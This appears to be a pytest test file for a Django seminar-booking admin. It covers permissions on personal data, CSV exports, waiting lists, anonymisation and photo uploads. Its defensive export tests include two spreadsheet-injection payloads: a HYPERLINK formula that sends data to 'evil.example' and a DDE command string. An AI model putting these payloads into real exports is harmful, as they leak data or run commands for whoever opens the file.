import csv
import io
import re
from datetime import timedelta
from io import StringIO

import pytest
from django.contrib.admin.models import LogEntry
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from PIL import ExifTags, Image

from seminars import services
from seminars.models import Registration, Speaker, Survey, SurveyChoice, SurveyQuestion
from tests.factories import make_facilitator, make_member
from tests.seminars.factories import APPENDED, make_seminar, photo_bytes, sign_up_data

pytestmark = pytest.mark.django_db


@pytest.fixture
def facilitator_client(client):
    client.force_login(make_facilitator())
    return client


@pytest.fixture
def seminar_with_people():
    seminar = make_seminar(capacity=2)
    services.sign_up(
        seminar,
        **sign_up_data(
            email="ann@example.org",
            access_needs=["bsl", "dietary"],
            access_needs_other="No nuts, please.",
            has_support_worker=True,
        ),
    )
    services.sign_up(
        seminar, **sign_up_data(email="bob@example.org", name="Bob Jones", access_needs=["bsl"])
    )
    services.sign_up(seminar, **sign_up_data(email="cat@example.org", name="Cat Waiting"))
    return seminar


def admin_urls(seminar):
    registration = seminar.registrations.first()
    return [
        reverse("admin:seminars_registration_changelist"),
        reverse("admin:seminars_registration_change", args=[registration.pk]),
        reverse("admin:seminars_registration_emails", args=[registration.pk]),
        reverse("admin:seminars_seminar_change", args=[seminar.pk]),
        reverse("admin:seminars_seminar_needs", args=[seminar.pk]),
        reverse("admin:seminars_seminar_sign_in_sheet", args=[seminar.pk]),
        reverse("admin:seminars_seminar_attendees_csv", args=[seminar.pk]),
    ]


def test_personal_data_is_not_open_to_anonymous_visitors(client, seminar_with_people):
    for url in admin_urls(seminar_with_people):
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith("/admin/login/"), url


def test_personal_data_is_not_open_to_members(client, seminar_with_people):
    client.force_login(make_member())
    for url in admin_urls(seminar_with_people):
        response = client.get(url)
        assert response.status_code == 302, url
        assert "ann@example.org" not in response.content.decode()


def test_staff_without_the_facilitator_permissions_cannot_see_personal_data(
    client, seminar_with_people
):
    client.force_login(make_member(is_staff=True))
    for url in admin_urls(seminar_with_people):
        assert client.get(url).status_code == 403, url


def test_seminar_admin_shows_places_and_the_people_inline(facilitator_client, seminar_with_people):
    changelist = facilitator_client.get(reverse("admin:seminars_seminar_changelist"))
    assert "2 / 2, 1 waiting" in changelist.content.decode()
    url = reverse("admin:seminars_seminar_change", args=[seminar_with_people.pk])
    html = facilitator_client.get(url).content.decode()
    assert "Bob Jones" in html
    assert "Cat Waiting" in html
    assert "A British Sign Language interpreter; Special food; No nuts, please." in html
    assert "Access needs and support workers</a>" in html


def test_registrations_filter_by_need_and_state(facilitator_client, seminar_with_people):
    url = reverse("admin:seminars_registration_changelist")
    html = facilitator_client.get(url, {"need": "dietary"}).content.decode()
    assert "ann@example.org" in html
    assert "bob@example.org" not in html
    html = facilitator_client.get(url, {"state__exact": "waiting"}).content.decode()
    assert "cat@example.org" in html
    assert "ann@example.org" not in html


def test_needs_summary_counts_needs_and_support_workers(facilitator_client, seminar_with_people):
    url = reverse("admin:seminars_seminar_needs", args=[seminar_with_people.pk])
    html = facilitator_client.get(url).content.decode()
    assert '<tr><th scope="row">A British Sign Language interpreter</th><td>2</td></tr>' in html
    assert '<tr><th scope="row">Special food</th><td>1</td></tr>' in html
    assert '<tr><th scope="row">Support workers coming with them</th><td>1</td></tr>' in html
    assert (
        '<tr><th scope="row">People in the room (people and support workers)</th><td>3</td></tr>'
        in html
    )
    assert '<tr><th scope="row">On the waiting list</th><td>1</td></tr>' in html
    assert "<td>No nuts, please.</td>" in html


def test_sign_in_sheet_lists_people_with_a_place_in_large_print(
    facilitator_client, seminar_with_people
):
    url = reverse("admin:seminars_seminar_sign_in_sheet", args=[seminar_with_people.pk])
    html = facilitator_client.get(url).content.decode()
    assert '<body class="sign-in-sheet">' in html
    assert "<td>Ann Smith</td><td>Yes</td>" in html
    assert "<td>Bob Jones</td><td>No</td>" in html
    assert "Cat Waiting" not in html
    # Needs written in people's own words are on the sheet too.
    assert "In their words: No nuts, please." in html


def test_csv_export_lists_attendees_and_is_logged(facilitator_client, seminar_with_people):
    url = reverse("admin:seminars_seminar_attendees_csv", args=[seminar_with_people.pk])
    response = facilitator_client.get(url)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["Email"] for row in rows] == [
        "ann@example.org",
        "bob@example.org",
        "cat@example.org",
    ]
    assert rows[0]["Access needs"] == "A British Sign Language interpreter; Special food"
    assert rows[0]["Support worker coming"] == "Yes"
    assert rows[2]["Place"] == "On the waiting list"
    assert LogEntry.objects.get().change_message == (
        f"Downloaded the people signed up for {seminar_with_people}"
    )


def test_admin_cancel_action_uses_the_service_and_promotes(
    facilitator_client, seminar_with_people, mailoutbox, django_capture_on_commit_callbacks
):
    bob = Registration.objects.get(email="bob@example.org")
    mailoutbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        facilitator_client.post(
            reverse("admin:seminars_registration_changelist"),
            {"action": "cancel_places", "_selected_action": [bob.pk], "confirmed": "yes"},
        )
        services.finish_held_cancellations(now=timezone.now() + timedelta(minutes=11))
    bob.refresh_from_db()
    assert bob.state == Registration.State.CANCELLED
    assert bob.cancelled_by.is_staff
    cat = Registration.objects.get(email="cat@example.org")
    assert cat.state == Registration.State.CONFIRMED
    assert [message.to for message in mailoutbox] == [["bob@example.org"], ["cat@example.org"]]
    assert "A SPIRIT facilitator cancelled it for you." in mailoutbox[0].body


def test_admin_give_place_action_refuses_when_full(facilitator_client, seminar_with_people):
    cat = Registration.objects.get(email="cat@example.org")
    response = facilitator_client.post(
        reverse("admin:seminars_registration_changelist"),
        {"action": "give_places", "_selected_action": [cat.pk]},
        follow=True,
    )
    assert "There is no room for Cat Waiting. Add places to the seminar first." in (
        response.content.decode()
    )
    cat.refresh_from_db()
    assert cat.state == Registration.State.WAITING


def test_registrations_cannot_be_added_or_deleted_in_the_admin(
    facilitator_client, seminar_with_people
):
    ann = Registration.objects.get(email="ann@example.org")
    assert facilitator_client.get(reverse("admin:seminars_registration_add")).status_code == 403
    delete = reverse("admin:seminars_registration_delete", args=[ann.pk])
    assert facilitator_client.post(delete, {"post": "yes"}).status_code == 403
    assert Registration.objects.filter(pk=ann.pk).exists()


def test_survey_results_show_counts_a_chart_and_ideas(facilitator_client):
    member = make_member()
    survey = Survey.objects.create(title="Planning the launch", slug="planning-the-launch")
    question = SurveyQuestion.objects.create(survey=survey, text="Key message?")
    yes = SurveyChoice.objects.create(question=question, text="Research into action")
    SurveyChoice.objects.create(question=question, text="Something else")
    idea = SurveyQuestion.objects.create(survey=survey, text="Speakers?", kind="idea")
    services.answer_survey(survey, member=member, answers={question.pk: [yes.pk], idea.pk: "Mel"})
    url = reverse("admin:seminars_survey_results", args=[survey.pk])
    html = facilitator_client.get(url).content.decode()
    assert "1 member answered." in html
    assert '<th scope="row">Research into action</th>\n          <td>1</td>' in html
    assert '<th scope="row">Something else</th>\n          <td>0</td>' in html
    assert 'width="300" height="20"' in html
    assert "<li>Mel</li>" in html


def test_member_cannot_see_survey_results(client):
    survey = Survey.objects.create(title="Planning", slug="planning")
    client.force_login(make_member(is_staff=True))
    url = reverse("admin:seminars_survey_results", args=[survey.pk])
    assert client.get(url).status_code == 403


@pytest.mark.parametrize(
    "url_name",
    [
        "admin:seminars_seminar_changelist",
        "admin:seminars_seminar_add",
        "admin:seminars_speaker_changelist",
        "admin:seminars_speaker_add",
        "admin:seminars_survey_changelist",
        "admin:seminars_survey_add",
        "admin:seminars_surveyquestion_changelist",
    ],
)
def test_facilitator_admin_pages_open(facilitator_client, url_name):
    response = facilitator_client.get(reverse(url_name))
    assert response.status_code == 200
    assert "<h1>" in response.content.decode()


def test_saving_more_places_in_the_admin_promotes_the_waiting_list(
    facilitator_client, seminar_with_people
):
    seminar = seminar_with_people
    url = reverse("admin:seminars_seminar_change", args=[seminar.pk])
    form = facilitator_client.get(url).context["adminform"].form
    data = {
        name: value
        for name, value in form.initial.items()
        if value is not None and not isinstance(value, list)
    }
    for name in ["starts_at", "ends_at", "signup_opens_at", "signup_closes_at"]:
        data.pop(name, None)
    local_start = timezone.localtime(seminar.starts_at)
    local_end = timezone.localtime(seminar.ends_at)
    data.update(
        {
            "capacity": 5,
            "venue": seminar.venue_id,
            "seen_version": form["seen_version"].value(),
            "starts_at_0": local_start.strftime("%d/%m/%Y"),
            "starts_at_1": local_start.strftime("%H:%M:%S"),
            "ends_at_0": local_end.strftime("%d/%m/%Y"),
            "ends_at_1": local_end.strftime("%H:%M:%S"),
            "sessions-TOTAL_FORMS": 0,
            "sessions-INITIAL_FORMS": 0,
            "registrations-TOTAL_FORMS": 3,
            "registrations-INITIAL_FORMS": 3,
        }
    )
    for index, registration in enumerate(seminar.registrations.order_by("state", "created_at")):
        data[f"registrations-{index}-id"] = registration.pk
        data[f"registrations-{index}-seminar"] = seminar.pk
    response = facilitator_client.post(url, data, follow=True)
    assert "Cat Waiting now has a place." in response.content.decode()
    assert seminar.registrations.confirmed().count() == 3


def test_purge_anonymises_people_after_the_retention_days_and_is_idempotent(settings):
    settings.SEMINARS_RETENTION_DAYS = 90
    old = make_seminar(
        starts_at=timezone.now() - timedelta(days=100),
        ends_at=timezone.now() - timedelta(days=100) + timedelta(hours=5),
    )
    recent = make_seminar(
        starts_at=timezone.now() - timedelta(days=10),
        ends_at=timezone.now() - timedelta(days=10) + timedelta(hours=5),
    )
    for seminar in (old, recent):
        for person in ("ann", "bob"):
            registration = Registration(
                seminar=seminar,
                name=person.title(),
                email=f"{person}@example.org",
                phone="01234 567890",
                role="self_advocate",
                access_needs=["bsl"],
                access_needs_other="No nuts",
                has_consented=True,
            )
            registration.set_new_token()
            registration.save()
    token = old.registrations.first().token
    out = StringIO()
    call_command("purge_registrations", stdout=out)
    assert out.getvalue() == "Anonymised 2 registrations.\n"
    gone = list(old.registrations.values("name", "email", "phone", "access_needs_other"))
    assert gone == [{"name": "", "email": None, "phone": "", "access_needs_other": ""}] * 2
    assert list(old.registrations.values_list("access_needs", flat=True)) == [["bsl"], ["bsl"]]
    assert recent.registrations.filter(anonymised_at__isnull=True).count() == 2
    assert Registration.objects.for_token(token).count() == 0
    again = StringIO()
    call_command("purge_registrations", stdout=again)
    assert again.getvalue() == "Anonymised 0 registrations.\n"
    call_command("purge_registrations", "--days", "5", stdout=StringIO())
    assert recent.registrations.filter(anonymised_at__isnull=True).count() == 0


def test_facilitators_preview_every_email_with_real_details(
    facilitator_client, seminar_with_people, mailoutbox
):
    ann = Registration.objects.get(email="ann@example.org")
    url = reverse("admin:seminars_registration_emails", args=[ann.pk])
    mailoutbox.clear()
    html = facilitator_client.get(url).content.decode()
    assert f"<h2>You have a place at {seminar_with_people.title}</h2>" in html
    assert f"<h2>Reminder: {seminar_with_people.title} is soon</h2>" in html
    assert "Hello Ann Smith," in html
    assert html.count("Comes with a calendar file.") == 6
    # Ann has a place, so the waiting-list email has no number to give.
    assert "number None" not in html
    assert "You are on the list." in html
    assert mailoutbox == []
    assert (
        facilitator_client.get(reverse("admin:seminars_registration_change", args=[ann.pk]))
        .content.decode()
        .count("See the emails Ann Smith gets</a>")
        == 1
    )


def test_purge_leaves_no_name_in_the_admin_log(admin_user):
    from django.contrib.admin.models import CHANGE

    seminar = make_seminar(
        starts_at=timezone.now() - timedelta(days=100),
        ends_at=timezone.now() - timedelta(days=100) + timedelta(hours=5),
    )
    registration = Registration(
        seminar=seminar,
        name="Zoë Quill",
        email="zoe@example.org",
        role="self_advocate",
        has_consented=True,
    )
    registration.set_new_token()
    registration.save()
    # What the admin writes when a facilitator ticks "was there" on the seminar's page.
    message = [{"changed": {"name": "registration", "object": str(registration)}}]
    for thing in [registration, seminar]:
        LogEntry.objects.log_actions(
            admin_user.pk, [thing], CHANGE, change_message=message, single_object=True
        )
    about_the_seminar = LogEntry.objects.filter(content_type__model="seminar")
    assert "Zo\\u00eb Quill" in about_the_seminar.get().change_message
    call_command("purge_registrations", stdout=StringIO())
    kept = [f"{entry.object_repr} {entry.change_message}" for entry in LogEntry.objects.all()]
    assert len(kept) == 2
    for text in kept:
        assert "Quill" not in text
        assert "Zo\\u00eb" not in text
    assert about_the_seminar.get().object_repr == str(seminar)


FORMULA_NAME = '=HYPERLINK("https://evil.example/?x="&B2,"x")'
FORMULA_NEEDS = "@cmd|' /C calc'!A0"


@pytest.fixture
def seminar_with_formulas():
    seminar = make_seminar()
    services.sign_up(
        seminar,
        **sign_up_data(
            name=FORMULA_NAME, access_needs_other=FORMULA_NEEDS, phone="+44 1234 567890"
        ),
    )
    return seminar


def test_attendee_csv_writes_formulas_as_text(facilitator_client, seminar_with_formulas):
    url = reverse("admin:seminars_seminar_attendees_csv", args=[seminar_with_formulas.pk])
    [row] = csv.DictReader(io.StringIO(facilitator_client.get(url).content.decode()))
    assert row["Name"] == "'" + FORMULA_NAME
    assert row["More about needs"] == "'" + FORMULA_NEEDS
    assert row["Phone"] == "'+44 1234 567890"
    assert row["Email"] == "ann@example.org"


def test_admin_export_of_sign_ups_writes_formulas_as_text(
    facilitator_client, seminar_with_formulas
):
    url = reverse("admin:seminars_registration_export")
    fields = ["seminar", "name", "email", "phone", "needs_other"]
    response = facilitator_client.post(
        url, {"format": "0", **{f"registrationresource_{name}": "on" for name in fields}}
    )
    assert response["Content-Type"].startswith("text/csv")
    [row] = csv.DictReader(io.StringIO(response.content.decode().lstrip("\ufeff")))
    assert row["Name"] == "'" + FORMULA_NAME
    assert row["More about needs"] == "'" + FORMULA_NEEDS
    assert row["Email"] == "ann@example.org"


@pytest.fixture
def media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def add_speaker(client, photo: SimpleUploadedFile):
    return client.post(
        reverse("admin:seminars_speaker_add"),
        {"name": "Mel", "organisation": "", "introduction": "", "photo": photo, "photo_alt": "Mel"},
    )


def test_a_speaker_photo_is_kept_without_gps_or_anything_after_the_picture(
    facilitator_client, media_in_tmp
):
    response = add_speaker(facilitator_client, SimpleUploadedFile("mel.jpg", photo_bytes()))

    assert response.status_code == 302
    with Speaker.objects.get().photo.open("rb") as photo:
        kept = photo.read()
    assert Image.open(io.BytesIO(kept)).getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
    assert b"Exif" not in kept
    assert APPENDED not in kept


def errors_next_to(html: str, field: str) -> list[str]:
    """The error messages shown in the admin form's row for a field."""
    row = re.search(rf'<div class="form-row[^"]*\bfield-{field}\b[^"]*">(.*?)</ul>', html, re.S)
    return re.findall(r"<li>([^<]*)</li>", row.group(1)) if row else []


def test_a_too_big_speaker_photo_is_refused_next_to_the_field(facilitator_client, media_in_tmp):
    big = photo_bytes() + b"\0" * (5 * 1024 * 1024)

    response = add_speaker(facilitator_client, SimpleUploadedFile("mel.jpg", big))

    assert errors_next_to(response.content.decode(), "photo") == [
        "This file is too big. The biggest is 5 MB."
    ]
    assert Speaker.objects.count() == 0
    assert list(media_in_tmp.rglob("*.*")) == []


def test_no_upload_is_read_past_the_site_wide_limit(facilitator_client, media_in_tmp, settings):
    settings.UPLOAD_MAX_BYTES = 1024 * 1024
    big = photo_bytes() + b"\0" * (2 * 1024 * 1024)

    response = add_speaker(facilitator_client, SimpleUploadedFile("mel.jpg", big))

    assert errors_next_to(response.content.decode(), "photo") == [
        "This file is too big. The biggest is 1 MB."
    ]
    assert Speaker.objects.count() == 0
